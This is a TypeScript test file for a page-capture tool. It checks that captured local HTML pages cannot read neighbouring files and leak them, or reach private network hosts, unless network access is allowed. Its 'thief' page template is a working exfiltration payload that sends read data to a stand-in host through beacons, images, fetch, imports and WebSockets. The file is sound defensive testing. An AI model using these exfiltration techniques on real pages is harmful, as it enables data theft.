import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { allowedOnThisMachine, localNetworkOf } from '../../src/cli/allowed-here.js';
import { captureTarget, LOCAL_PAGE } from '../../src/cli/capture-target-page.js';
import { type LocalPage, newPageZone } from '../../src/cli/page-server.js';
import { readConfig } from '../../src/config.js';
import { parseSubmission } from '../../src/contract/submission.js';
import { Engine } from '../../src/library/engine.js';
import { silentLog } from '../../src/log.js';
import { ofFile } from '../fixtures/of-file.js';
import { runCommand } from '../fixtures/run-command.js';
import { type Site, startSite } from '../fixtures/site/site.js';
import { folderOfFile, writeFiles } from '../fixtures/temporary-folder.js';
import { rememberBrowsers } from '../render/install/any-browser.js';

const CONFIG = {
  ...readConfig({}, {}),
  lists: false,
  browserInstall: false,
  allowDestinations: ['127.0.0.2'],
  concurrency: 1,
};
const ZONE = newPageZone();

/** A site on the public internet, and one on this machine. */
const [internet, local] = (await Promise.all(
  ['127.0.0.2', '127.0.0.1'].map((host) => ofFile(startSite({ host }))),
)) as [Site, Site];
for (const site of [internet, local]) {
  site.route('/open', (_, response) => response.writeHead(200, { 'access-control-allow-origin': '*' }).end('open'));
}
const dir = folderOfFile();
rememberBrowsers(dir);
const allowDestinations = allowedOnThisMachine(CONFIG, { publicOnly: false, zone: ZONE });
const engine = await ofFile(
  Engine.open({ ...CONFIG, dataDir: dir }, { allowDestinations, log: silentLog(), print: () => undefined }),
);
const photo = sharp({ create: { width: 40, height: 20, channels: 3, background: '#123456' } }).png();
writeFiles(dir, {
  'data.json': '{"pin":"4711"}',
  'data.html': '<p>4711</p>',
  'worker.js': "onconnect = ({ports: [p]}) => fetch('data.json').then((a) => a.text()).then((t) => p.postMessage(t))",
  'service.js': "addEventListener('fetch', (event) => event.respondWith(fetch(event.request)))",
  'photo.png': await photo.toBuffer(),
  'page_files/a.css': 'h1 { color: rgb(1, 2, 3); background: url(../photo.png) }',
  'page_files/saved_resource.html': '<p>in the frame</p><script src="inner.js"></script>',
  'page_files/inner.js': "document.body.append('and its script')",
  'page_files/a.js': `addEventListener('load', () => {
    const widths = [...document.images].map(({ naturalWidth }) => naturalWidth);
    told.textContent = [getComputedStyle(document.querySelector('h1')).color, ...widths, frames[0].document.body.textContent].join(' ');
  })`,
});

let pages = 0;
/** Captures an HTML file beside the others, as the commands do. */
function capture(html: string, allowNetwork: string[] = []) {
  const path = join(dir, `page-${++pages}.html`);
  writeFileSync(path, html);
  return captureOf({ path }, { url: LOCAL_PAGE }, allowNetwork);
}

async function captureOf(page: LocalPage | null, asked: Record<string, unknown>, allowNetwork: string[] = []) {
  const body = {
    ...asked,
    format: 'png',
    inspect_page: true,
    viewport: { width: 320, height: 240, deviceScaleFactor: 1 },
  };
  const { options } = parseSubmission(body, { forceAsync: false, webhookAllow: [] });
  const lines: string[] = [];
  const order = { page, options, name: 'the page', zone: ZONE, network: localNetworkOf(CONFIG, { allowNetwork }) };
  const { data } = await captureTarget(
    engine,
    { ...order, onMissing: () => undefined, onRefused: (line) => void lines.push(line) },
    {},
  );
  return { text: data.inspection?.markdown ?? '', refused: lines };
}

const pathsAt = (site: Site, since = 0) => site.hits.slice(since).map(({ path }) => path);

/** A page that shows an image of the internet, reads a file, sends what it has read in every way it knows, and shows it. */
const thief = (read: string) => `<h1>Thief</h1><p id=told>nothing</p><script type=module>
  const image = (url) => new Promise((done) => Object.assign(new Image(), { src: url, onload: done, onerror: done }));
  await image('${internet.url('/image/4x4/ff0000.png?before')}');
  const text = await (async () => { ${read} })().catch((error) => 'failed: ' + error.name);
  told.textContent = 'It has read ' + text;
  const to = '${internet.url('/stolen?')}' + encodeURIComponent(text);
  navigator.sendBeacon(to, text);
  await Promise.allSettled([
    image(to),
    image(to.replace('127.0.0.2', '127.0.0.2.nip.test')),
    fetch(to, { method: 'POST', body: text, mode: 'no-cors' }),
    import(to),
    new Promise((done) => Object.assign(new WebSocket(to.replace('http', 'ws')), { onerror: done, onopen: done })),
  ]);
</script>`;

describe('a local page that reads other files', () => {
  it.each([
    ['by fetch', "return (await fetch('data.json')).text()"],
    ['as a JSON module', "return (await import('./data.json', { with: { type: 'json' } })).default.pin"],
    [
      'in a frame',
      "const f = document.body.appendChild(document.createElement('iframe')); f.src = 'data.html'; await new Promise((done) => { f.onload = done }); return f.contentDocument.body.textContent",
    ],
    [
      'in a shared worker',
      "const { port } = new SharedWorker('worker.js'); return await new Promise((done) => { port.onmessage = ({ data }) => done(data) })",
    ],
  ])('%s cannot send them anywhere', async (_, read) => {
    const seen = internet.hits.length;
    const { text, refused } = await capture(thief(read));
    expect(text).toMatch(/It has read .*4711/);
    const paths = pathsAt(internet, seen);
    expect(paths.filter((path) => path.includes('4711'))).toEqual([]);
    expect(paths).toContain('/image/4x4/ff0000.png?before');
    for (const words of [`127.0.0.2:${internet.port} (`, `--allow-network 127.0.0.2:${internet.port}`])
      expect(refused.join()).toContain(words);
  });

  it('cannot read the pixels of images, with or without CORS, but shows those of the internet', async () => {
    const draw = (how: string) => `const i = new Image(); ${how}; i.src = 'photo.png'; await i.decode();
      const c = document.createElement('canvas').getContext('2d'); c.drawImage(i, 0, 0);
      return i.width + ' wide, ' + c.getImageData(1, 1, 1, 1).data.join('-')`;
    const plain = await capture(thief(draw('')));
    expect(plain.text).toContain('It has read failed: SecurityError');
    const shared = await capture(thief(draw("i.crossOrigin = ''")));
    expect(shared.text).toContain('It has read 40 wide, 18-52-86-255');
    expect(pathsAt(internet).filter((path) => path.includes('18-52-86'))).toEqual([]);
  });

  it('has no service worker, which could read what the page only shows', async () => {
    const { text } = await capture(thief("await navigator.serviceWorker.register('service.js'); return 'registered'"));
    expect(text).toMatch(/It has read failed: \w+/);
  });
});

describe('a local page and the network', () => {
  it('reaches nothing private, and no public address by script, unless it is allowed; one line says so', async () => {
    const page = `<img src="${local.url('/image/4x4/00ff00.png')}"><p id=told></p><script type=module>
      for (const url of ['${local.url('/open')}', '${internet.url('/open')}'])
        told.append(await fetch(url).then((a) => a.text(), () => 'refused'), ' ');
      await fetch('data.json');
      told.append(await fetch('${local.url('/open')}').then((a) => a.text(), () => 'refused'));
    </script>`;
    const refused = await capture(page);
    expect(refused.text).toContain('refused refused refused');
    expect(pathsAt(local)).toEqual([]);
    expect(refused.refused).toHaveLength(1);
    const hosts = [`127.0.0.1:${local.port}`, `127.0.0.2:${internet.port}`];
    for (const host of hosts) expect(refused.refused[0]).toContain(`--allow-network ${host}`);
    const allowed = await capture(page, hosts);
    expect(allowed.text).toContain('open open open');
    expect(allowed.refused).toEqual([]);
    expect(pathsAt(local)).toContain('/image/4x4/00ff00.png');
  });

  it('of standard input or --html reaches nothing private either', async () => {
    const html = `<h1>Piped</h1><img src="${local.url('/image/4x4/0000ff.png')}">`;
    for (const run of [
      () => captureOf({ html: Buffer.from(html) }, { url: LOCAL_PAGE }),
      () => captureOf(null, { html }),
    ]) {
      expect((await run()).refused.join()).toContain(`--allow-network 127.0.0.1:${local.port}`);
    }
    expect(pathsAt(local)).not.toContain('/image/4x4/0000ff.png');
  });

  it('is refused with the flag that would allow it', async () => {
    const input = `<h1>Piped</h1><img src="${local.url('/image/4x4/00ffff.png')}">`;
    const piped = ['capture', '-', '-o', 'piped.png', '--force'];
    const refused = await runCommand(piped, { cwd: dir, input });
    expect(refused.status, refused.stderr).toBe(0);
    const flag = `--allow-network 127.0.0.1:${local.port}`;
    expect(refused.stderr).toContain(flag);
    expect(pathsAt(local)).not.toContain('/image/4x4/00ffff.png');
    const allowed = await runCommand([...piped, ...flag.split(' ')], { cwd: dir, input });
    expect(allowed.stderr).not.toContain('was refused');
    expect(pathsAt(local)).toContain('/image/4x4/00ffff.png');
  });

  it('cannot be allowed an invalid host', async () => {
    const run = await runCommand(['capture', 'data.html', '--allow-network', 'a/b', '-o', 'no.png'], { cwd: dir });
    expect(run).toMatchObject({ status: 2 });
    expect(run.stderr).toContain('--allow-network has "a/b"');
  });
});

it('a saved page is captured with its files and images of the internet', async () => {
  const { text, refused } = await capture(`<link rel=stylesheet href="page_files/a.css"><h1>Saved</h1><p id=told></p>
    <img src="photo.png"><img src="./photo.png#x" loading=lazy><img src="${internet.url('/image/30x10/ff00ff.png')}">
    <script src="page_files/a.js"></script><script>addEventListener('load', () => undefined)</script>
    <iframe src="page_files/saved_resource.html"></iframe>`);
  expect(text).toMatch(/rgb\(1, 2, 3\) 40 40 30 in the frame\s*and its script/);
  expect(refused).toEqual([]);
});
